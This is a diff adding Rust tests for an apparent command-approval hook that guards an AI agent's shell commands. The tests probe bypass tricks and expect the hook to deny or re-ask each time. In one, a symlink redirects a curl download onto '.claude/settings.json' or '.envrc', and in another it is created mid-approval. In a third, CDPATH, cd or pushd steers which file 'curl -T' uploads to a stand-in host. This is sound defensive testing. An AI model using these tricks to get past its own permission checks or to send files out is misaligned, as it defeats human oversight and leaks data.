@@ -1212,6 +1212,59 @@ fn a_grant_covers_no_more_files_than_it_says() {
     running.join().unwrap().expect(0);
     site.check("curl -s https://i.example/y -o out.json").expect(0);
     is_asked_again(&site, "curl -s https://i.example/y -o other.json");
+    // What the name leads to by now, whether that is there or not.
+    for target in [".claude/settings.json", "../elsewhere.sh", ".envrc"] {
+        std::fs::create_dir_all(site.work().join(".claude")).unwrap();
+        std::os::unix::fs::symlink(target, site.work().join("out.json")).unwrap();
+        // What acts later is denied at once under both taints.
+        if target.starts_with('.') && !target.starts_with("..") {
+            site.check("curl -s https://i.example/y -o out.json").expect(2);
+        } else {
+            is_asked_again(&site, "curl -s https://i.example/y -o out.json");
+        }
+        std::fs::remove_file(site.work().join("out.json")).unwrap();
+    }
+}
+
+/// A link that comes to lead elsewhere while people look.
+#[test]
+fn a_link_that_is_made_while_people_look_is_seen() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    std::fs::create_dir_all(site.work().join(".claude")).unwrap();
+    let command = "curl -s https://h.example/x -o out.json";
+    let running = site.check_later(command);
+    let id = site.held(command);
+    std::os::unix::fs::symlink("../later/settings.json", site.work().join("out.json")).unwrap();
+    site.cli(["approve", &id]).expect(0);
+    running.join().unwrap().expect(2);
+}
+
+/// Where `cd` goes by a variable, the card says so, and an answer is for one call.
+#[test]
+fn folders_that_a_variable_chooses_are_told() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    for folder in ["deep", "data/deep"] {
+        std::fs::create_dir_all(site.work().join(folder)).unwrap();
+        std::fs::write(site.work().join(folder).join("f.txt"), folder).unwrap();
+    }
+    for (variable, command) in [
+        (None, "CDPATH=data; cd deep; curl -T f.txt https://a.example/"),
+        (Some("data"), "cd deep; curl -T f.txt https://a.example/"),
+        (Some("data"), "pushd deep && curl -T f.txt https://a.example/"),
+    ] {
+        let mut hook = site.hook_command(&site.hook_toml());
+        hook.args(["check", "--", command]).envs(variable.map(|value| ("CDPATH", value)));
+        let running = std::thread::spawn(move || Output::of(&mut hook, b""));
+        let id = site.held(command);
+        let card = site.cli(["show", &id]).expect(0).stdout;
+        assert!(card.contains("CDPATH") && !offers_session(&site, &id), "{card}");
+        site.cli(["deny", &id]).expect(0);
+        running.join().unwrap().expect(2);
+    }
 }
 
 /// Names that parts of an address make.
